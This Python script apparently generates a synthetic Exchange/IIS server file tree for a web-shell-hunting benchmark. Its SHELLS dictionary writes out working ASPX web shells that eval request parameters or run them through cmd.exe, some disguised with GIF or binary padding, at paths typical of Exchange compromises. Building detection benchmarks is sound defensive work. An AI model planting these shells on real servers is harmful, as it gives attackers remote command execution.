"""Generate a server-like file tree for the file-hunt benchmark (deterministic, seeded).

Lays out a disk mirror (`C/Program Files/Microsoft/Exchange Server/V15/...`, `C/inetpub/...`,
`C/ProgramData/...`, `C/Windows/Temp/...`) of mixed files: many small ASP.NET pages, scripts
and configs, fewer medium binaries, a handful of multi-megabyte files, and a few web shells
planted where attackers put them. Sizes are chosen so the tree stays a few hundred MB.
"""

from __future__ import annotations

import argparse
import json
import random
from dataclasses import dataclass
from pathlib import Path

EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15"
FOLDERS = [
    (f"{EXCHANGE}/ClientAccess/ecp/{{sub}}", (".aspx", ".ascx", ".js", ".css", ".config"), 0.30),
    (f"{EXCHANGE}/ClientAccess/owa/prem/15.1.2176.2/scripts/{{sub}}", (".js", ".css", ".htm"), 0.25),
    (f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/{{sub}}", (".png", ".gif", ".css", ".js"), 0.05),
    (f"{EXCHANGE}/bin/{{sub}}", (".dll", ".xml", ".config"), 0.15),
    ("C/inetpub/wwwroot/{sub}", (".aspx", ".htm", ".js", ".css"), 0.05),
    ("C/ProgramData/Vendor{n}/{sub}", (".log", ".xml", ".zip", ".dat"), 0.10),
    ("C/Windows/Temp/{sub}", (".tmp", ".log", ".txt"), 0.05),
    ("C/Users/admin/Documents/{sub}", (".txt", ".docx", ".pdf"), 0.05),
]
TEXT_EXTENSIONS = {".aspx", ".ascx", ".js", ".css", ".config", ".htm", ".xml", ".log", ".txt"}
PAGE = (
    '<%@ Page Language="C#" AutoEventWireup="true"'
    ' Inherits="Microsoft.Exchange.Management.ControlPanel.{name}" %>\n'
    '<%@ Register TagPrefix="ecp" Namespace="Microsoft.Exchange.Management.ControlPanel" %>\n'
    '<asp:Content ID="c{n}" ContentPlaceHolderID="ResultPanePlaceHolder" runat="server">\n'
    '  <ecp:ListView ID="listView{n}" runat="server" SearchTextMaxLength="256" />\n'
    "</asp:Content>\n"
)
SCRIPT = "function {name}(a, b) {{ var x = a + b * {n}; if (x > {n}) {{ return Owa.Util.format('{name}', x); }} }}\n"
SHELLS = {
    f"{EXCHANGE}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx": b'<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>',
    "C/inetpub/wwwroot/aspnet_client/system_web/zxvt0lpt.aspx": b'GIF89a\n<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>',
    "C/inetpub/wwwroot/aspnet_client/HWTJQDMFVMPOON.aspx": b"!BDN"
    + bytes(range(256)) * 4
    + b'<script language="JScript" runat="server">function Page_Load()'
    b'{eval(Request["exec_code"],"unsafe");}</script>' + bytes(range(256)) * 4,
    f"{EXCHANGE}/FrontEnd/HttpProxy/ecp/auth/w.aspx": b'<%@ Page Language="C#" %><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + '
    b'Request["c"]); p.RedirectStandardOutput = true; %>',
    "C/ProgramData/it.zip": b"PK\x03\x04" + bytes(range(256)) * 64,
}


@dataclass(frozen=True)
class TreeSpec:
    files: int = 20_000
    seed: int = 20210302

    def key(self) -> str:
        return json.dumps({"files": self.files, "seed": self.seed, "shells": len(SHELLS), "v": 1})


def _size(rng: random.Random) -> int:
    roll = rng.random()
    if roll < 0.70:
        return rng.randint(300, 8 * 1024)
    if roll < 0.95:
        return rng.randint(8 * 1024, 64 * 1024)
    if roll < 0.999:
        return rng.randint(64 * 1024, 512 * 1024)
    return rng.randint(2 * 1024 * 1024, 8 * 1024 * 1024)


def _text(rng: random.Random, ext: str, size: int) -> bytes:
    template = PAGE if ext in (".aspx", ".ascx") else SCRIPT
    parts: list[str] = []
    total = 0
    while total < size:
        chunk = template.format(name=f"N{rng.getrandbits(32):08x}", n=rng.randint(1, 99999))
        parts.append(chunk)
        total += len(chunk)
    return "".join(parts).encode()[:size]


def generate(root: Path, spec: TreeSpec = TreeSpec()) -> Path:
    """Build the tree under root (once: an existing tree of the same spec is reused)."""
    marker = root / ".tree.json"
    if marker.exists() and marker.read_text() == spec.key():
        return root
    rng = random.Random(spec.seed)
    weights = [w for _, _, w in FOLDERS]
    noise = rng.randbytes(16 * 1024 * 1024)  # binary content is cut from this, so generation stays fast
    plain = spec.files - len(SHELLS)
    for i in range(plain):
        folder, exts, _ = rng.choices(FOLDERS, weights)[0]
        ext = rng.choice(exts)
        rel = folder.format(sub=f"d{rng.randint(0, 150):03d}", n=rng.randint(1, 6)) + f"/f{i:06d}{ext}"
        size = _size(rng)
        if ext in TEXT_EXTENSIONS:
            data = _text(rng, ext, size)
        else:
            start = rng.randint(0, len(noise) - 1)
            data = (noise[start:] + noise)[:size] if size <= len(noise) else noise * (size // len(noise) + 1)
            data = data[:size]
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    for rel, data in SHELLS.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    marker.write_text(spec.key())
    return root


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("root", type=Path)
    parser.add_argument("--files", type=int, default=TreeSpec.files)
    args = parser.parse_args()
    generate(args.root, TreeSpec(files=args.files))


if __name__ == "__main__":
    main()
